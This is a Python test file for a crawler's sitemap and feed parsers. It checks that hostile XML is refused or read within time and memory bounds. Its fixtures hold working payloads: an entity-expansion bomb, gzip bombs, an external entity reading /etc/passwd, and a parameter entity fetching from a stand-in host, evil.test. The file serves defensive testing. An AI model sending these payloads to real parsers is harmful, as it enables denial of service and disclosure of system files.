"""P6 and P7's share of it: XML that is made to do harm costs its page, within bounds of time and memory."""

from __future__ import annotations

import gzip
import time
import tracemalloc
from collections import deque
from collections.abc import Callable, Mapping

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from limpet.contracts.events.v1.fetch_pb2 import OrderKind
from limpet.contracts.events.v1.page_pb2 import PageFetched
from limpet.parser.inflate import CutShort, pieces
from limpet.parser.parsers import feed, sitemap
from limpet.parser.reading import Reading, Unread, read_page

URL = "https://shop.test/sitemap.xml"
BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(12))
    + b"]><urlset><url><loc>&m;</loc></url></urlset>"
)
REFUSED: Mapping[str, Callable[[], bytes]] = {
    "bomb": lambda: BOMB,
    "zipped bomb": lambda: gzip.compress(BOMB),
    "external entity": lambda: (
        b'<!DOCTYPE urlset [<!ENTITY x SYSTEM "file:///etc/passwd">]><urlset><url><loc>&x;</loc></url></urlset>'
    ),
    "parameter entity": lambda: b'<!DOCTYPE urlset [<!ENTITY % p SYSTEM "https://evil.test/x"> %p;]><urlset/>',
    "harmless subset": lambda: b"<!DOCTYPE urlset [<!ELEMENT urlset ANY>]><urlset/>",
    "long subset": lambda: b"<!DOCTYPE urlset [" + b"<!ELEMENT a ANY>" * 10_000 + b'<!ENTITY x "y">]><urlset/>',
    "deep": lambda: b"<urlset>" + b"<a>" * 1_000_000,
    "deep entry": lambda: b"<urlset><url><loc>" + b"<a>" * 100_000,
    "long attribute": lambda: b'<urlset a="' + b"x" * (40 << 20),
    "long attribute of brackets": lambda: b'<urlset a="' + b">" * (40 << 20),
    "long comment": lambda: b"<urlset><!--" + b"-x" * (20 << 20),
    "long name": lambda: b"<urlset><" + b"x" * (40 << 20),
}
READ: Mapping[str, Callable[[], bytes]] = {
    "a million elements": lambda: b"<urlset>" + b"<url/>" * 1_000_000,
    "many more elements": lambda: b"<urlset>" + b"<a/>" * 5_000_000,
    "many attributes": lambda: b"<urlset " + b" ".join(b'a%d=""' % n for n in range(50_000)) + b"/>",
    "many namespaces": lambda: b"<urlset " + b" ".join(b'xmlns:n%d="x"' % n for n in range(30_000)) + b"/>",
    "long text": lambda: b"<urlset><url><loc>" + b"x" * (40 << 20),
    "long data": lambda: b"<urlset><url><loc><![CDATA[" + b"x" * (40 << 20),
    "many fields": lambda: b"<urlset><url>" + b"<loc>x</loc>" * 500_000,
    "ampersands": lambda: b"<urlset><url><loc>" + b"&" * (2 << 20),
    "controls": lambda: b"<urlset><url><loc>" + b"\x01" * (10 << 20),
    "many names": lambda: b"<urlset>" + b"".join(b"<a%d/>" % n for n in range(200_000)),
    "one line": lambda: b"https://shop.test/" + b"x" * (40 << 20),
    "zipped zeros": lambda: gzip.compress(b"\x00" * (200 << 20), compresslevel=1),
    "gzip of gzip of gzip": lambda: gzip.compress(gzip.compress(gzip.compress(BOMB))),
}


def take(body: bytes, *, parser: str = "sitemap") -> Reading | Unread:
    return read_page(PageFetched(url=URL, parser=parser, content_type="application/xml", follow=True), body)


@pytest.mark.parametrize("parser", ["sitemap", "feed"])
@pytest.mark.parametrize("name", sorted(REFUSED))
def test_p6_hostile_xml_is_refused_by_name(name: str, parser: str) -> None:
    body = REFUSED[name]()
    if parser == "feed":
        body = body.replace(b"urlset", b"rss", 2)
    begun = time.thread_time()
    result = take(body, parser=parser)
    assert time.thread_time() - begun < 2.0
    assert isinstance(result, Unread)
    assert result.error.startswith(("Refused", "ValueError"))


@pytest.mark.parametrize(
    "name", ["bomb", "external entity", "parameter entity", "harmless subset", "deep", "long attribute"]
)
def test_p6_the_reason_for_a_refusal_is_told(name: str) -> None:
    result = take(REFUSED[name]())
    assert isinstance(result, Unread)
    assert result.error.split(": ", 1)[1] in (
        "it brings its own document type",
        "elements are nested more than 100 deep",
        "a tag or comment of more than 1 MB",
    )


@pytest.mark.parametrize("name", sorted(READ))
def test_p6_large_and_odd_files_are_read_within_their_time(name: str) -> None:
    begun = time.thread_time()
    assert isinstance(take(READ[name]()), (Reading, Unread))
    assert time.thread_time() - begun < 5.0


@pytest.mark.parametrize("name", ["bomb", "deep", "long attribute", "long text", "one line"])
def test_p6_no_file_takes_more_memory_than_a_few_pieces(name: str) -> None:
    body = {**REFUSED, **READ}[name]()
    tracemalloc.start()
    try:
        take(body)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 16 << 20


def test_p6_pieces_end_at_the_limit() -> None:
    taken: deque[int] = deque()
    source = pieces(gzip.compress(b"x" * (30 << 20)), limit=1 << 20)
    with pytest.raises(CutShort, match="more than 1 MB"):
        taken.extend(map(len, source))
    assert sum(taken) == 1 << 20


FRAGMENTS = st.sampled_from(
    [b"<urlset>", b"<sitemapindex>", b"<rss>", b"<channel>", b"<feed>", b"<item>", b"<entry>", b"<url>", b"<loc>", b"<link>",
     b"</loc>", b"</url>", b"</item>", b"</link>", b"<link href='/x' rel='next'/>", b"https://shop.test/x", b"&amp;", b"&",
     b"&nbsp;", b"&#0;", b"<![CDATA[", b"]]>", b"<!--", b"-->", b"<!DOCTYPE a [", b"]>", b"<!ENTITY a 'b'>", b"&a;",
     b"<?xml version='1.0' encoding='utf-16'?>", b"<lastmod>2026-01-01</lastmod>", b"<title>\xc3\xa9\xff</title>", b"\x00", b"{",
     b'{"version":"https://jsonfeed.org/version/1","items":[{"id":1}]}', b"\xff\xfe", b"\x1f\x8b\x08", b"\n", b" xmlns:a='b'"]
)  # fmt: skip


@settings(deadline=None, max_examples=400)
@given(st.one_of(st.binary(max_size=300), st.lists(FRAGMENTS, max_size=40).map(b"".join)), st.booleans())
@example(b"<urlset><url><loc>https://shop.test/\xed\xa0\x80</loc></url></urlset>", False)
@example(b"<rss><channel><item><title>\\u0000</title></item></channel></rss>", False)
@example(b"<urlset><url><loc>http://[</loc></url></urlset>", False)
def test_p6_no_bytes_make_a_sitemap_or_feed_raise_or_exceed_its_limits(body: bytes, zipped: bool) -> None:
    body = gzip.compress(body) if zipped else body
    for parser in ("sitemap", "feed", "generic"):
        for kind in (OrderKind.ORDER_KIND_PAGE, OrderKind.ORDER_KIND_SITEMAP):
            page = PageFetched(url=URL, parser=parser, kind=kind, content_type="application/xml", follow=True)
            result = read_page(page, body)
            assert isinstance(result, (Reading, Unread))
            if isinstance(result, Reading):
                assert len(result.links) <= sitemap.MAX_ENTRIES
                assert len(result.items) <= feed.MAX_ENTRIES
                assert all(link.url.startswith(("http://", "https://")) for link in result.links)
                assert all(link.IsInitialized() and link.SerializeToString() for link in result.links)
